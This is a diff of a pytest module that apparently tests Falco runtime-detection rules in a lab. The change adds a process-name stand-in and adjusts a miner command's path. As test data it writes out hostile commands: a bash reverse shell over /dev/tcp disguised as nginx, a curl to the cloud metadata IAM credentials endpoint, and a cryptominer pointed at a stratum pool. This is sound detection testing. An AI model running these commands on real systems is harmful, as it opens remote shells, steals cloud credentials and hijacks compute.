@@ -18,8 +18,11 @@ KUBERNETES_SERVICE_HOST of its own environment, as kubelet sets it in the agent'
 resolves the miner pool names of "Detect outbound connections to common miner pool ports" with the node's
 resolver: the agent runs in a private mount namespace whose /etc/hosts names the test's pool address.
 
-Stand-ins: none. The interpreted-procs cases run the machine's own /usr/bin/python3 (proc.name "python3"); the
-other Python clients and servers run as the real interpreter's file name (python3.11), which is in no list.
+Stand-ins: one, where the rule keys on a process name the machine lacks: "Reverse Shell from Web Server" needs a
+web server as the shell's parent (proc.pname in web_server_binaries), so a copy of /bin/sh named nginx runs a
+real bash reverse shell to a peer. The interpreted-procs cases run the machine's own /usr/bin/python3
+(proc.name "python3"); the other Python clients and servers run as the real interpreter's file name
+(python3.11), which is in no list.
 
 Each case names its rule: scripts/falco_rules_table.py reads CASES to mark those rules live in docs/rules.md.
 """
@@ -32,6 +35,8 @@ from pathlib import Path
 import pytest
 from fslab import PYTHON, FalcoLab
 from netpeers import peer
+
+import kubeguard
 
 pytestmark = pytest.mark.root
 
@@ -88,7 +93,11 @@ def send_datagrams(address: str, port: int, python: str = PYTHON) -> str:
 REVERSE_SHELL = (f"cp /bin/sh /tmp/nginx && /tmp/nginx -c "
                  f"'bash -c \"bash -i >& /dev/tcp/{PEER}/4444 0>&1\"; true'")
 METADATA_GET = f"curl -s --max-time 20 http://{METADATA_IP}/latest/meta-data/iam/security-credentials/ > /dev/null"
-MINER = f"{PYTHON} -m kubeguard.lab.miner -o stratum+tcp://{PEER}:3333 -u kg-wallet --max-cpu 100 --shares 1"
+# The base interpreter (its name is not one of Falco's interpreted_binaries, unlike a virtualenv's `python`), with
+# the folder kubeguard is imported from on its path (lab pods bind it back).
+KUBEGUARD_PATH = Path(kubeguard.__file__).resolve().parents[1]
+MINER = (f"PYTHONPATH={KUBEGUARD_PATH} {PYTHON} -m kubeguard.lab.miner -o stratum+tcp://{PEER}:3333 -u kg-wallet "
+         "--max-cpu 100 --shares 1")
 
 # The host's / bind-mounted at /host of a container whose own root is a chroot of the machine's /usr (what a
 # hostPath volume of / looks like from inside): a read below /host/.
